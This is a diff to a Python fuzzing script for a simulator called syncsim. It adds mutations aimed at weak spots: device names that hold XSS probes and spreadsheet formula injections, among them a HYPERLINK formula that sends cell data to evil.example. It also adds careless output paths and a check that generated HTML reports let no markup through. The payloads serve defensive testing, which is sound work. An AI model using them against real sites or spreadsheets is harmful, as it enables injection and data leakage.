@@ -1,6 +1,13 @@
 #!/usr/bin/env python3
 """Fuzzes syncsim's input handling: mutates the library scenarios and runs the release binary.
 
+Since issue 39, 15 % of mutations aim at known weak spots: device names of markup or formulas
+(or a bidirectional override), intervals of 1 ns to 1 s (polling, policyValidity, nudge and usage
+`every`), and sweeps of 3 to 40 two-valued factors. One case in seven writes to an output path a
+careless user gives (`.`, `./`, `..`, an existing file, a link to another folder), and one in
+five of the runs that wrote results has `report` render a copy of its folder whose fields and
+headers are markup (no `<img` or `<script` may reach the page).
+
 For a fixed seed, each case takes a library scenario and applies one to three mutations: a value's
 type, a number (0, negative, huge, fractional, non-finite text), a string (empty, long, Unicode,
 control characters, path parts, an unknown name), nesting (a value wrapped in an array or object,
@@ -17,6 +24,7 @@ Usage: python3 Scripts/fuzz.py [--cases N] [--seed S] [--jobs J] [--binary PATH]
 Prints a summary and each failing case's file (kept in --keep DIR); exits 1 on any failure.
 """
 import argparse
+import csv
 import glob
 import json
 import os
@@ -103,10 +111,50 @@ def scale(rng, doc):
     return json.dumps(set_at(doc, path, replacement))
 
 
+HOSTILE_NAMES = [
+    "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</title><script>alert(1)</script>",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "a\u202eb",
+    "' onmouseover='x",
+]
+INTERVALS = ["1ns", "1us", "10ms", "999ms", "1s", 0.001, 1e-9]
+INTERVAL_PATHS = [
+    ("polling", "interval"), ("scheduler", "policyValidity"),
+]
+
+
+def hostile(rng, doc):
+    """A mutation aimed at a known weak spot: markup or formula names, tiny intervals, many sweep
+    factors."""
+    kind = rng.randrange(4)
+    if kind == 0 and doc.get("devices"):
+        device = rng.choice(doc["devices"])
+        if isinstance(device, dict):
+            device["name"] = rng.choice(HOSTILE_NAMES)
+    elif kind == 1:
+        section, key = rng.choice(INTERVAL_PATHS)
+        if not isinstance(doc.get(section), dict):
+            doc[section] = {}
+        doc[section][key] = rng.choice(INTERVALS)
+    elif kind == 2:
+        every = rng.choice(INTERVALS)
+        if rng.random() < 0.5:
+            doc.setdefault("timeline", [])
+            if isinstance(doc["timeline"], list):
+                doc["timeline"].append({"at": "0s", "devices": "all", "action": {"nudge": {"every": every}}})
+        else:
+            doc["usage"] = [{"devices": "all", "every": every}]
+    else:
+        count = rng.choice([3, 13, 16, 25, 40])
+        doc["sweep"] = {"factors": [{"path": "description", "values": [f"a{i}", f"b{i}"]} for i in range(count)]}
+    return json.dumps(doc)
+
+
 def mutate(rng, doc, text):
     """One mutation of the document (or of its text); returns the new text."""
     if rng.random() < 0.4:
         return scale(rng, doc)
+    if rng.random() < 0.15:
+        return hostile(rng, doc)
     choice = rng.randrange(10)
     if choice == 0:  # truncation
         return text[: rng.randrange(max(1, len(text)))]
@@ -186,6 +234,60 @@ def duration_seconds(text):
     return None
 
 
+OUT_MODES = ["dot", "dotslash", "dotdot", "file", "link"]
+
+
+def prepare_out(mode, work, out):
+    """The --out argument for `mode` (run's working folder is `work`)."""
+    if mode == "dot":
+        return "."
+    if mode == "dotslash":
+        return "./"
+    if mode == "dotdot":
+        return ".."
+    if mode == "file":
+        with open(out, "w") as handle:
+            handle.write("a file, not a folder\n")
+        return out
+    if mode == "link":
+        elsewhere = os.path.join(work, "elsewhere")
+        os.makedirs(elsewhere, exist_ok=True)
+        with open(os.path.join(elsewhere, "keep.txt"), "w") as handle:
+            handle.write("keep\n")
+        os.symlink(elsewhere, out)
+        return out
+    return out
+
+
+def report_on_hostile_copy(binary, out, work, number):
+    """`report` on a copy of the run folder whose names and fields are markup: never a trap, and
+    nothing in the page that runs script."""
+    folder = os.path.join(work, "hostile")
+    shutil.copytree(out, folder)
+    payload = "<img src=x onerror=alert(1)>"
+    for name in ["latency.csv", "activities.csv", "timeline.csv"]:
+        path = os.path.join(folder, name)
+        if not os.path.exists(path):
+            continue
+        with open(path, encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        for r, row in enumerate(rows):
+            for c in range(len(row)):
+                if (r * 7 + c * 3 + number) % 5 == 0:
+                    row[c] = payload if r else "blocked." + payload
+        with open(path, "w", encoding="utf-8", newline="") as handle:
+            csv.writer(handle).writerows(rows)
+    code, _, _ = run_measured([binary, "report", folder], work)
+    if code not in (0, 65):
+        return [f"report on a hostile folder exited {code}"]
+    page = os.path.join(folder, "report.html")
+    if code == 0:
+        html = open(page, encoding="utf-8").read().lower()
+        if "<img" in html or "<script" in html:
+            return ["report on a hostile folder let markup through"]
+    return []
+
+
 def check_case(binary, number, text, keep):
     """Runs one case; returns a list of failure descriptions (empty: passed) and what it did."""
     work = tempfile.mkdtemp(prefix="syncsim-fuzz-")
@@ -201,18 +303,27 @@ def check_case(binary, number, text, keep):
         if wall > WALL_LIMIT or rss > MEMORY_LIMIT_KB:
             failures.append(f"validate took {wall:.1f} s and {rss // 1024} MB")
         out = os.path.join(work, "out")
+        # The output path: usually a new folder; sometimes one a careless user gives.
+        mode = OUT_MODES[number % len(OUT_MODES)] if number % 7 == 3 else "folder"
+        out_arg = prepare_out(mode, work, out)
         # Runs are cut to 10 min of simulated time (only ever shorter: the estimate only falls).
         seconds = duration_seconds(text)
         cap = ["--duration", RUN_DURATION] if seconds is not None and seconds > 600 else []
-        run_code, wall, rss = run_measured([binary, "run", scenario, *cap, "--out", out], work)
+        run_code, wall, rss = run_measured([binary, "run", scenario, *cap, "--out", out_arg], work)
         outcome["run"] = run_code
-        if run_code not in (0, 1, 65):
-            failures.append(f"run exited {run_code}")
-        if code == 0 and run_code == 65:
+        allowed = {"folder": (0, 1, 65), "link": (0, 1, 65), "file": (65, 73), "dot": (64,), "dotslash": (64,),
+                   "dotdot": (64,)}[mode]
+        if run_code not in allowed and not (mode != "folder" and run_code == 65):
+            failures.append(f"run --out ({mode}) exited {run_code}")
+        if mode == "folder" and code == 0 and run_code == 65:
             # validate accepted it; run may refuse only what the shorter duration changed (nothing).
             failures.append("validate said OK but run refused it (65)")
-        if run_code == 65 and os.path.exists(out):
+        if mode == "folder" and run_code == 65 and os.path.exists(out):
             failures.append("run exited 65 but wrote results")
+        if mode == "link" and sorted(os.listdir(os.path.join(work, "elsewhere"))) != ["keep.txt"] and run_code not in (0, 1):
+            failures.append("run through a link changed the linked folder without writing a set")
+        if mode == "folder" and run_code in (0, 1) and number % 5 == 0:
+            failures += report_on_hostile_copy(binary, out, work, number)
         if wall > WALL_LIMIT or rss > MEMORY_LIMIT_KB:
             failures.append(f"run took {wall:.1f} s and {rss // 1024} MB")
         if failures and keep:
